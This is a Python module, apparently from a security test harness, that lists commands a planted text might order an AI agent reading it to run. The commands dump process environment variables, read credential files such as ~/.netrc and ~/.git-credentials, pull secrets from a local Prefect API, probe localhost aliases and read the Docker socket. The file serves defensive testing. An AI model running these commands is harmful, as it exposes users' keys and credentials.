"""What does the thief order its readers to run?"""

HOSTS = (
    "127.0.0.1", "localhost", "::1", "172.17.0.1", "host.docker.internal", "0.0.0.0", "10.0.2.2", "198.19.255.2",
    "198.19.255.3",
)  # fmt: skip
"""The machine by every name a box or a server might know it under."""


def ask(port: int) -> str:
    """A program that tries to reach a port of the host."""
    return (
        "import socket\n"
        f"for host in {HOSTS}:\n"
        f"    try: socket.create_connection((host, {port}), 2); print('CONNECTED', host)\n"
        "    except OSError: print('UNREACHABLE', host)\n"
    )


def orders(port: int) -> tuple[str, ...]:
    """Commands, each of which would find a key where nothing fences it."""
    api = f"http://127.0.0.1:{port}/api/block_documents/filter"
    return (
        "env",
        "cat /proc/self/environ /proc/1/environ | tr '\\0' '\\n'; cat /proc/[0-9]*/environ | tr '\\0' '\\n'; echo SEEN",
        f'python3 -c "{ask(port)}"',
        f"curl -s -m 3 -d '{{\"include_secrets\": true}}' {api} || echo UNREACHABLE",
        f"python3 -c \"import urllib.request as u; print('CONNECTED', u.urlopen('{api}', b'{{}}', 3).read())\"",
        "cat /root/.prefect/*.toml /root/.prefect/prefect.db ~/.netrc ~/.git-credentials .git/config 2>&1; echo SEEN",
        "ls -la / /run /tmp /srv /home 2>&1; cat /run/docker.sock /var/run/docker.sock 2>&1; echo SEEN",
    )
